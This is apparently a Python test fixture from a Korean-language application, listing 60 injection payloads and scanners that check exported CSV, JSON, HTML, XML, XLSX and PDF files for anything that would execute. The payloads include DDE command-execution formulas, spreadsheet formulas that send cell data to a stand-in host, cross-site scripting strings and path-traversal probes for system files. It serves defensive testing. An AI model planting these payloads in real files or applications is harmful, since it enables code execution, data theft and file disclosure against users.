"""60 texts that do harm where a title, name or code is written out without care, and what makes a file live with them.

Plant them with ``planted(text)`` or take ``PAYLOADS``; ``live(file)`` says what of them would run or break out.
"""

from __future__ import annotations

import csv
import json
import re
import zlib
from pathlib import Path

import openpyxl
from lxml import etree, html

FORMULA = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid/?x="&A1,"구인")', '=IMPORTXML("http://evil.invalid/","//a")',
    '=WEBSERVICE("http://evil.invalid/")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", '"=1+1', "=SUM(A1:A9)", "=1+1;사무원",
    "|cmd' /C calc'!A0", "%0A=1+1",
)  # fmt: skip
HTML = (
    "<script>lmi()</script>", "<ScRiPt src=//evil.invalid/lmi.js></sCrIpT>", "</title><script>lmi()</script>",
    "</script><script>lmi()</script>", '"><script>lmi()</script>', "'><img src=x onerror=lmi()>",
    "<img src=x onerror=lmi()>", "<svg onload=lmi()>", "<svg><script>lmi()</script></svg>",
    '<a href="javascript:lmi()">일자리</a>', '<iframe srcdoc="<script>lmi()</script>"></iframe>',
    "<details open ontoggle=lmi()>x</details>", '<style>@import "//evil.invalid/lmi.css";</style>',
    "<!--><script>lmi()</script>-->",
    "]]><script>lmi()</script>", '" onmouseover="lmi()', "' autofocus onfocus='lmi()",
    '<meta http-equiv="refresh" content="0;url=//evil.invalid">',
)  # fmt: skip
CSV = (
    'a,b,c,"=1+1"', '","=1+1","', 'x"\r\n=1+1,"y', "x\n=1+1,1,2", "x\r\n@SUM(1),y", '"unclosed', 'a""b,"', "x,=1+1,y",
    'x",y',
)  # fmt: skip
PATH = (
    "../../etc/passwd", "..\\..\\windows\\system.ini", "/etc/passwd", "C:\\windows\\win.ini", "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd", "a/../../b", ".hidden", "file:///etc/passwd",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = FORMULA + HTML + CSV + PATH
#: what begins a formula in a spreadsheet, once blanks and control characters are gone
BEGINS = re.compile("^[\\s\\x00-\\x1f\\u200b\\ufeff]*[\"']?[\\s\\u200b\\ufeff]*[=+@|%＝＋－＠-]")
#: a figure, which may begin with a sign
FIGURE = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?%?$")


def planted(text: str) -> list[str]:
    """The payloads, alone and inside an ordinary text."""
    return [*PAYLOADS, *(f"{text} {payload}" for payload in PAYLOADS)]


def live(file: Path) -> list[str]:
    """What of a CSV, JSON, HTML, SVG, XML, XLSX or PDF file would run, or stands where it does not belong."""
    looks = {".csv": _csv, ".json": _json, ".jsonld": _json, ".html": _html, ".svg": _xml, ".xml": _xml, ".xlsx": _xlsx,
             ".pdf": _pdf}  # fmt: skip
    return [f"{file.name}: {found}" for found in looks.get(file.suffix, lambda _: [])(file)]


def live_below(folder: Path) -> list[str]:
    """``live`` of every file below ``folder``, and names of files that a payload made."""
    files = [path for path in sorted(folder.rglob("*")) if path.is_file()]
    strange = [f"named {path.name!r}" for path in files if not re.fullmatch(r"[\w가-힣.=@+-]+", path.name)]
    return strange + [found for path in files for found in live(path)]


def _csv(file: Path) -> list[str]:
    with file.open(encoding="utf-8-sig", newline="") as lines:
        rows = list(csv.reader(lines, strict=True))
    cells = [cell for row in rows for cell in row if BEGINS.match(cell) and not FIGURE.match(cell)]
    # an apostrophe before everything else is what makes a cell text
    cells = [cell for cell in cells if not (cell.startswith("'") and BEGINS.match(cell[1:]))]
    ragged = [f"a row of {len(row)} cells" for row in rows if len(row) != len(rows[0])]
    return [f"formula {cell!r}" for cell in cells] + ragged


def _json(file: Path) -> list[str]:
    text = file.read_text("utf-8")
    json.loads(text)
    return [f"markup {found!r}" for found in re.findall("<[a-zA-Z/!]", text)]


def _html(file: Path) -> list[str]:
    return _running(html.fromstring(file.read_bytes()))


def _xml(file: Path) -> list[str]:
    return _running(etree.fromstring(file.read_bytes(), etree.XMLParser(resolve_entities=False)))


def _running(root: etree._Element) -> list[str]:
    found = []
    for element in root.iter(etree.Element):
        name = etree.QName(element).localname.lower()
        inside = "".join(element.itertext()) if name in {"script", "style"} else ""
        if str(element.get("type", "")).endswith("json"):  # data: it runs only where markup ends it
            json.loads(inside)
            inside = "lmi()" if re.search("<[a-zA-Z/!]", inside) else ""
        if "lmi()" in inside or "evil.invalid" in inside:
            found.append(f"<{name}> {inside[:60]!r}")
        for key, value in element.attrib.items():
            attribute = re.split("[:}]", str(key))[-1].lower()
            leads = attribute in {"href", "action", "formaction", "data"} and "javascript:" in str(value).lower()
            runs = leads or attribute.startswith("on")
            if (runs or attribute in {"src", "srcdoc", "content"}) and re.search(r"lmi\(\)|evil\.inv|^x$", value):
                found.append(f"<{name} {key}={value[:60]!r}>")
    return found


def _xlsx(file: Path) -> list[str]:
    book = openpyxl.load_workbook(file)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    return [f"formula {c.value!r} in {c.coordinate}" for c in cells if c.data_type == "f" or c.hyperlink]


def _pdf(file: Path) -> list[str]:
    """Actions; the text of a page is numbers of glyphs, so a name in it is never taken for one."""
    data = file.read_bytes()
    parts = [data]
    for packed in re.findall(rb"stream\r?\n(.*?)endstream", data, re.DOTALL):
        try:
            parts.append(zlib.decompress(packed))
        except zlib.error:
            continue  # not compressed: it is in ``data`` as it is
    actions = rb"/(?:JavaScript|JS|Launch|SubmitForm|ImportData)\b|evil\.invalid"
    return [f"action {found.decode()}" for part in parts for found in re.findall(actions, part)]
